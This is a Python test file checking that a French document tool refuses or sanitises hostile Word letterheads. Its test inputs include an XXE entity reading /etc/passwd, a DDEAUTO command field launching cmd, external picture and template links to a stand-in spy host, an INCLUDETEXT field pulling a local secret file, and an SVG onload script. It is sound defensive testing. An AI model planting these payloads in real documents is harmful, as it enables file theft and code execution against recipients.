"""Letterheads of strangers: refused with one sentence, or stripped of what reaches outside."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from tests.documents.papier.conftest import repack, replace_in, save
from tests.documents.test_read_refusals import set_encrypted

from deliberia.documents import open_papier, render_docx
from deliberia.errors import DocumentError
from deliberia.model import Projet

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEADER_RELS = "word/_rels/header1.xml.rels"


def add_relation(kind: str, target: str, identifier: str = "rId99") -> Callable[[dict[str, bytes]], None]:
    row = (
        f'<Relationship Id="{identifier}" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
    )
    return replace_in(HEADER_RELS, "</Relationships>", f"{row}</Relationships>")


def add_to_header(xml: str) -> Callable[[dict[str, bytes]], None]:
    return replace_in("word/header1.xml", "</w:hdr>", f"{xml}</w:hdr>")


def everything(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "\n".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "vide"),
        (b"Bonjour", "n’est pas un document Word"),
        (b"%PDF-1.7", "n’est pas un document Word"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "mot de passe"),
        (OLE + "WordDocument".encode("utf-16-le"), "ancien format"),
        (b"PK\x03\x04garbage", "endommagé"),
    ],
)
def test_another_file_is_refused_with_one_sentence(data: bytes, said: str) -> None:
    with pytest.raises(DocumentError, match=said) as caught:
        open_papier(data, place="papier.docx")
    assert caught.value.hint
    assert caught.value.place == "papier.docx"


def test_an_open_document_is_refused(letterhead: bytes) -> None:
    def disguise(parts: dict[str, bytes]) -> None:
        parts["mimetype"] = b"application/vnd.oasis.opendocument.text"

    with pytest.raises(DocumentError, match="LibreOffice"):
        open_papier(repack(letterhead, disguise))


def test_an_encrypted_archive_is_refused(letterhead: bytes) -> None:
    with pytest.raises(DocumentError, match="mot de passe"):
        open_papier(set_encrypted(letterhead))


def test_strict_open_xml_is_refused(letterhead: bytes) -> None:
    strict = "http://purl.oclc.org/ooxml/wordprocessingml/main"
    with pytest.raises(DocumentError, match="strict"):
        open_papier(repack(letterhead, replace_in("word/document.xml", WORD, strict)))


@pytest.mark.parametrize("member", ["word/document.xml", "word/styles.xml", "word/header1.xml", HEADER_RELS])
def test_a_doctype_is_refused_in_every_part(letterhead: bytes, member: str) -> None:
    def infect(parts: dict[str, bytes]) -> None:
        head, _, rest = parts[member].partition(b"?>")
        parts[member] = head + b'?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>' + rest

    with pytest.raises(DocumentError, match="DOCTYPE"):
        open_papier(repack(letterhead, infect))


def test_a_bomb_is_refused(letterhead: bytes) -> None:
    def inflate(parts: dict[str, bytes]) -> None:
        parts["word/styles.xml"] = parts["word/styles.xml"] + b" " * 20_000_000

    with pytest.raises(DocumentError, match=r"gonfle|démesurée"):
        open_papier(repack(letterhead, inflate))


def test_a_huge_header_is_refused(letterhead: bytes) -> None:
    words = "".join(f"<w:p><w:r><w:t>{number * 7919}</w:t></w:r></w:p>" for number in range(130_000))
    with pytest.raises(DocumentError, match="démesurée"):
        open_papier(repack(letterhead, add_to_header(words)))


def test_margins_that_leave_no_room_are_refused(word: Any) -> None:
    from docx.shared import Cm

    word.sections[0].left_margin = word.sections[0].right_margin = Cm(8)
    with pytest.raises(DocumentError, match="dix centimètres"):
        open_papier(save(word))


def test_a_linked_picture_is_never_fetched(letterhead: bytes, projet: Projet) -> None:
    picture = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata'
        f' xmlns:r="{RELATIONS}" r:id="rId99" src="http://espion.example/i.png"/></v:shape></w:pict></w:r></w:p>'
    )

    def infect(parts: dict[str, bytes]) -> None:
        add_relation("image", "http://espion.example/i.png")(parts)
        add_to_header(picture)(parts)

    papier = open_papier(repack(letterhead, infect))
    assert "espion" not in everything(render_docx(projet, papier=papier))
    assert any("extérieur" in remark for remark in papier.remarques)


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "image", "subDocument"])
def test_no_relation_leads_outside_but_a_link_to_click(letterhead: bytes, projet: Projet, kind: str) -> None:
    papier = open_papier(repack(letterhead, add_relation(kind, "file://///serveur/piege.dotm")))
    assert "piege" not in everything(render_docx(projet, papier=papier))


def test_a_link_to_the_site_of_the_commune_stays(letterhead: bytes, projet: Projet) -> None:
    link = (
        f'<w:p><w:hyperlink xmlns:r="{RELATIONS}" r:id="rId99"><w:r><w:t>Site</w:t></w:r></w:hyperlink></w:p>'
    )

    def add(parts: dict[str, bytes]) -> None:
        add_relation("hyperlink", "https://val-fleuri.example/")(parts)
        add_to_header(link)(parts)

    text = everything(render_docx(projet, papier=open_papier(repack(letterhead, add))))
    assert "https://val-fleuri.example/" in text
    assert "Site" in text


@pytest.mark.parametrize(
    "field",
    [
        'INCLUDEPICTURE "http://espion.example/i.png"',
        'DDEAUTO cmd "/c calc"',
        'INCLUDETEXT "c:\\\\secret.docx"',
        'DATABASE \\d "espion"',
    ],
)
def test_a_field_that_reads_elsewhere_leaves_only_what_it_showed(
    letterhead: bytes, projet: Projet, field: str
) -> None:
    half = len(field) // 2
    escaped = [part.replace('"', "&quot;") for part in (field[:half], field[half:])]
    complex_field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in escaped)
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>déjà vu</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    simple = (
        f'<w:p><w:fldSimple w:instr="{"".join(escaped)}"><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>'
    )
    data = render_docx(projet, papier=open_papier(repack(letterhead, add_to_header(complex_field + simple))))
    header = zipfile.ZipFile(io.BytesIO(data)).read("word/header1.xml").decode()
    assert "déjà vu" in header
    assert "simple" in header
    assert field.split()[0] not in header
    assert "instrText" not in header


def test_the_number_of_the_page_stays(letterhead: bytes, projet: Projet) -> None:
    field = '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    data = render_docx(projet, papier=open_papier(repack(letterhead, add_to_header(field))))
    assert " PAGE " in everything(data)


def test_what_was_deleted_in_the_header_is_gone(letterhead: bytes, projet: Projet) -> None:
    revision = (
        '<w:p><w:del w:id="1" w:author="A"><w:r><w:delText>ancien maire</w:delText></w:r></w:del>'
        '<w:ins w:id="2" w:author="Auteur de la révision"><w:r><w:t>nouvelle adresse</w:t></w:r></w:ins>'
        "</w:p>"
    )
    text = everything(render_docx(projet, papier=open_papier(repack(letterhead, add_to_header(revision)))))
    assert "ancien maire" not in text
    assert "nouvelle adresse" in text
    assert "Auteur de la révision" not in text


def test_protection_variables_and_mail_merge_stay_behind(letterhead: bytes, projet: Projet) -> None:
    hostile = (
        '<w:documentProtection w:edit="readOnly" w:enforcement="1"/><w:docVars><w:docVar w:name="s"'
        ' w:val="secret"/></w:docVars><w:attachedTemplate w:val="x"/>'
    )
    papier = open_papier(
        repack(letterhead, replace_in("word/settings.xml", "</w:settings>", f"{hostile}</w:settings>"))
    )
    text = everything(render_docx(projet, papier=papier))
    for word in ("documentProtection", "secret", "attachedTemplate"):
        assert word not in text


def test_a_picture_of_an_unknown_kind_is_left_out_and_said(letterhead: bytes, projet: Projet) -> None:
    def disguise(parts: dict[str, bytes]) -> None:
        name = next(name for name in parts if name.startswith("word/media/"))
        parts[name] = b"<svg onload='alert(1)'/>"

    papier = open_papier(repack(letterhead, disguise))
    assert any("format inconnu" in remark for remark in papier.remarques)
    text = everything(render_docx(projet, papier=papier))
    assert "onload" not in text
    assert "<w:drawing" not in text
